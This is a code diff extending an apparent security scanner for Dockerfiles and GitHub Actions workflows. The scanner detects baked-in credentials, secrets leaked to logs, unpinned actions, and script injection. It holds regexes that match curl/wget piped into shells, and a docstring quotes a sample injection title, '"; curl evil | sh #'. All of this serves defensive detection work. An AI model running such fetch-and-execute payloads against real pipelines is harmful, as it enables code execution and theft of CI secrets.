@@ -230,7 +230,8 @@ _DOWNLOADER = re.compile(r"(?<![\w.-])(?:curl|wget)(?![\w.-])")
 _SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish"})
 _INTERPRETER = re.compile(r"^(?:python[\d.]*|perl|ruby|node|php|pwsh|powershell)$")
 _SUBSTITUTED_EXEC = re.compile(
-    r"(?:\b(?:ba|z|da|k|mk)?sh|\bsource|(?<![\w./-])\.)\s+(?:-\S+\s+)*<\(\s*(?:sudo\s+)?(?:curl|wget)\b"
+    r"(?:\b(?:ba|z|da|k|mk)?sh|\b(?:python[\d.]*|perl|ruby|node|php)|\bsource|(?<![\w./-])\.)"
+    r"\s+(?:-\S+\s+)*<\(\s*(?:sudo\s+)?(?:curl|wget)\b"
     r"|\b(?:ba|z|da|k|mk)?sh\s+(?:-\w+\s+)*-\w*c\w*\s+[\"']?(?:\$\(|`)\s*(?:sudo\s+)?(?:curl|wget)\b"
     r"|\beval\s+[\"']?(?:\$\(|`)\s*(?:curl|wget)\b"
     r"|\b(?:python[\d.]*|perl|ruby|node)\s+-[ce]\s+[\"']?(?:\$\(|`)\s*(?:curl|wget)\b"
@@ -490,7 +491,13 @@ _CREDENTIAL_FORMAT = re.compile(
     r"|^glpat-[\w-]{20,}$|^xox[abposr]-[\w-]{10,}$|^[sr]k_live_\w{10,}$|^sk-(?:proj-|ant-)?[\w-]{20,}$"
     r"|^npm_[A-Za-z0-9]{30,}$|^AIza[\w-]{35}$|-----BEGIN [A-Z ]*PRIVATE KEY"
 )
-_URL_CREDENTIALS = re.compile(r"[A-Za-z][\w+.-]*://[^/\s:@]+:([^/\s@]+)@")
+# The user part may be empty: `redis://:password@host:6379/0` is how Redis URLs carry a password.
+_URL_CREDENTIALS = re.compile(r"[A-Za-z][\w+.-]*://[^/\s:@]*:([^/\s@]+)@")
+# `user:password` pairs (comma-separated for several users), as FLOWER_BASIC_AUTH or
+# PROXY_AUTH take them; only read under a name with the word AUTH in it. An all-digit part after
+# the colon is a port (`AUTH_SERVER=keycloak:8080`), not a password.
+_USER_PASS = r"[\w.@+-]+:(?!\d+(?:,|$))[^\s:/@,]{4,}"
+_USER_PASSWORD_VALUE = re.compile(rf"^{_USER_PASS}(?:,{_USER_PASS})*$")
 _NOT_A_SECRET_VALUE = re.compile(
     r"^(?:true|false|yes|no|on|off|0|1|none|null|nil|)$|^(?:/|\./|\.\./|~/)|^https?://[^@]*$"
     r"|^<[^>]*>$|^pk_(?:live|test)_|^(?:dummy|placeholder|replace[_-]?me|x{3,}|\*{3,}|your[_-].*)$",
@@ -498,10 +505,14 @@ _NOT_A_SECRET_VALUE = re.compile(
 )
 
 
+def _name_words(name: str) -> list[str]:
+    return [w for w in _NAME_SPLIT.split(_CAMEL.sub(r"\1_\2", name).upper()) if w]
+
+
 def secret_name(name: str) -> bool:
     """Whether an ENV/ARG name reads as holding a credential (API_KEY, DB_PASSWORD, NPM_TOKEN),
     not as describing one (TOKEN_URL, PASSWORD_MIN_LENGTH, PUBLIC_KEY_PATH, GPG_KEY)."""
-    words = [w for w in _NAME_SPLIT.split(_CAMEL.sub(r"\1_\2", name).upper()) if w]
+    words = _name_words(name)
     if not words or _PUBLIC_WORDS.intersection(words):
         return False
     if _SWITCH_WORDS.intersection(words):
@@ -542,7 +553,8 @@ def check_secret_in_env(file: FileUnderReview, context: ReviewContext) -> Iterab
     """A credential in `ENV` or `ARG`. A literal value (or a URL with a password in it) is baked
     into the image config and layers for anyone who can pull it; `ENV X=$BUILD_ARG` copies a build
     argument into the runtime environment; a bare `ARG NPM_TOKEN` is recorded in the image
-    history (`docker history`) with whatever value the build passed. Empty values, paths, plain
+    history (`docker history`) with whatever value the build passed. A `user:password` pair under
+    an AUTH name (`FLOWER_BASIC_AUTH=ops:pw`) is a credential too. Empty values, paths, plain
     URLs, booleans, placeholders and `--mount=type=secret` stay quiet."""
     if not file.text or file_kind(file.path) != "dockerfile":
         return
@@ -574,6 +586,16 @@ def _secret_hit(
     if literal and "://" in (value or "") and _URL_CREDENTIALS.search(value or ""):
         return Severity.HIGH, (
             f"`{keyword} {name}` is a URL with a password in it: the credential is baked into the "
+            "image (config and history) for anyone who can pull it."
+        )
+    if (
+        literal
+        and "AUTH" in _name_words(name)
+        and not _PUBLIC_WORDS.intersection(_name_words(name))
+        and _USER_PASSWORD_VALUE.match(value or "")
+    ):
+        return Severity.HIGH, (
+            f"`{keyword} {name}` holds a `user:password` pair: the credential is baked into the "
             "image (config and history) for anyone who can pull it."
         )
     if not secret_name(name):
@@ -795,6 +817,24 @@ class Workflow:
 
 
 _SECRET_EXPR = re.compile(r"\$\{\{[^}]*?\b(?:secrets|github\.token)\b[^}]*\}\}")
+# A step output that is itself a credential (`steps.app-token.outputs.token`, `...outputs.password`,
+# google-github-actions/auth's `access_token`): not a repository secret, but just as sensitive.
+_STEP_OUTPUT = re.compile(r"\$\{\{[^}]*?\bsteps\.[\w-]+\.outputs\.([\w-]+)[^}]*\}\}")
+_CREDENTIAL_OUTPUT_WORDS = frozenset({"TOKEN", "PASSWORD", "PASSWD", "SECRET"})
+
+
+def _secret_expression(text: str) -> str | None:
+    """The first `${{ }}` expression in `text` that yields a credential."""
+    match = _SECRET_EXPR.search(text)
+    if match:
+        return match.group()
+    for output in _STEP_OUTPUT.finditer(text):
+        name = output.group(1)
+        if _CREDENTIAL_OUTPUT_WORDS.intersection(_name_words(name)) and secret_name(name):
+            return output.group()
+    return None
+
+
 _PR_HEAD = re.compile(
     r"github\.event\.pull_request\.head\.(?:sha|ref|repo\.full_name)|github\.head_ref|refs/pull/"
     r"|github\.event\.pull_request\.merge_commit_sha|github\.event\.workflow_run\.head_(?:sha|branch|repository)"
@@ -850,7 +890,7 @@ def _secret_env(env: Node | None) -> set[str]:
     return {
         k.value
         for k, v in env.value
-        if isinstance(k, ScalarNode) and _SECRET_EXPR.search(_text_of(v))
+        if isinstance(k, ScalarNode) and _secret_expression(_text_of(v))
     }
 
 
@@ -1079,6 +1119,8 @@ def check_pull_request_target_checkout(
 
 
 _SHA = re.compile(r"^[0-9a-fA-F]{40}$")
+# The SLSA generator verifies its own ref and only supports semver tags, never SHAs (its docs).
+_TAG_ONLY = re.compile(r"^slsa-framework/slsa-github-generator/.*@v\d+\.\d+\.\d+$", re.I)
 _ACTION = re.compile(r"^([\w.-]+)/[\w.-]+(?:/[^@\s]*)?(?:@(\S+))?$")
 _FIRST_PARTY = frozenset({"actions", "github"})
 
@@ -1087,7 +1129,8 @@ def check_unpinned_action(file: FileUnderReview, context: ReviewContext) -> Iter
     """A third-party action (or reusable workflow) referenced by a tag or branch instead of a full
     commit SHA: whoever controls the repository can move the ref and run new code with this
     workflow's secrets (the tj-actions/changed-files compromise). GitHub's own `actions/*` and
-    `github/*` are exempt, as are local actions and digest-pinned `docker://` images."""
+    `github/*` are exempt, as are local actions, digest-pinned `docker://` images and the SLSA
+    generator's reusable workflows, which must be referenced by a semver tag."""
     parsed = _workflow_of(file)
     if parsed is None:
         return
@@ -1104,7 +1147,7 @@ def check_unpinned_action(file: FileUnderReview, context: ReviewContext) -> Iter
                 )
             continue
         match = _ACTION.match(value)
-        if match is None or match.group(1).lower() in _FIRST_PARTY:
+        if match is None or match.group(1).lower() in _FIRST_PARTY or _TAG_ONLY.match(value):
             continue
         ref = match.group(2)
         if ref and _SHA.match(ref):
@@ -1147,12 +1190,13 @@ def _echoed_secret(text: str, start: int, end: int, env: frozenset[str]) -> str 
     stage = text[start:end]
     if "::add-mask::" in stage:
         return None
-    expression = _SECRET_EXPR.search(stage)
+    expression = _secret_expression(stage)
     if expression:
-        return expression.group().strip("${} ")
+        return expression.strip("${} ")
     for name in env:
         if re.search(
-            rf"\$(?:\{{{re.escape(name)}\b|{re.escape(name)}\b|env:{re.escape(name)}\b)",
+            # `${NAME:+set}` expands to the word, not the value: a presence check, not a leak
+            rf"\$(?:\{{{re.escape(name)}\b(?!:?\+)|{re.escape(name)}\b|env:{re.escape(name)}\b)",
             stage,
             re.I,
         ):
@@ -1185,11 +1229,12 @@ def _log_leaks(command: Text, env: frozenset[str]) -> Iterator[tuple[int, str]]:
 
 def check_secret_echoed(file: FileUnderReview, context: ReviewContext) -> Iterable[Hit]:
     """A `run:` step that prints a secret to the job log: `echo ${{ secrets.X }}`, `echo "$TOKEN"`
-    where the step's env maps TOKEN from a secret, `printenv`/`env` with secrets in scope, or a
+    where the step's env maps TOKEN from a secret (or from a credential step output such as
+    `steps.app-token.outputs.token`), `printenv`/`env` with secrets in scope, or a
     secret piped through `base64`. GitHub masks only the exact secret string, so transformed or
     partial values are readable by anyone who can see the logs. Writing to a file, to
-    `$GITHUB_ENV`, or into a command's stdin (`| docker login --password-stdin`), and
-    `::add-mask::`, are fine."""
+    `$GITHUB_ENV`, or into a command's stdin (`| docker login --password-stdin`), `::add-mask::`,
+    and presence checks (`${TOKEN:+set}`, which expand to the word) are fine."""
     parsed = _workflow_of(file)
     if parsed is None:
         return
@@ -1227,24 +1272,38 @@ _UNTRUSTED = re.compile(
     r"|workflow_run\.(?:head_branch|head_commit\.message|display_title)\b"
     r")))"
 )
+# A whole event object serialized into the script: `toJSON(github.event.issue)` carries the
+# title and body with it, so a quote in either breaks out of whatever quoting the script uses.
+_UNTRUSTED_JSON = re.compile(
+    r"\$\{\{[^}]*?\b(to[Jj][Ss][Oo][Nn]\(\s*github(?:\.event(?:\.(?:"
+    r"issue|pull_request(?:\.head)?|comment|review|review_comment|discussion|discussion_comment"
+    r"|head_commit|commits|workflow_run|pages"
+    r"))?)?\s*\))"
+)
+
+
+def _untrusted_expression(text: str) -> str | None:
+    match = _UNTRUSTED.search(text) or _UNTRUSTED_JSON.search(text)
+    return match.group(1) if match else None
 
 
 def check_script_injection(file: FileUnderReview, context: ReviewContext) -> Iterable[Hit]:
     """An attacker-controlled event field (issue or PR title/body, comment body, branch name,
     commit message) expanded with `${{ }}` inside a `run:` script or a github-script `script:`:
     the text is pasted into the script before it runs, so a title like `"; curl evil | sh #`
-    executes with the job's token and secrets. Passing it through `env:` and reading `"$TITLE"`
-    is the fix and does not match."""
+    executes with the job's token and secrets. A whole event object serialized with
+    `toJSON(github.event.issue)` (or `toJSON(github.event)`) carries those fields too. Passing it
+    through `env:` and reading `"$TITLE"` is the fix and does not match."""
     parsed = _workflow_of(file)
     if parsed is None:
         return
     for script in (*parsed.scripts, *parsed.js_scripts):
         for line, text in script.lines:
-            match = _UNTRUSTED.search(text)
-            if match and file.is_changed(line) and not text.lstrip().startswith("#"):
+            what = _untrusted_expression(text)
+            if what and file.is_changed(line) and not text.lstrip().startswith("#"):
                 yield Hit(
                     line,
-                    rationale=f"`${{{{ {match.group(1)} }}}}` is attacker-controlled text pasted into the script before it runs: a crafted value executes commands with the job's token and secrets.",
+                    rationale=f"`${{{{ {what} }}}}` is attacker-controlled text pasted into the script before it runs: a crafted value executes commands with the job's token and secrets.",
                 )
 
 
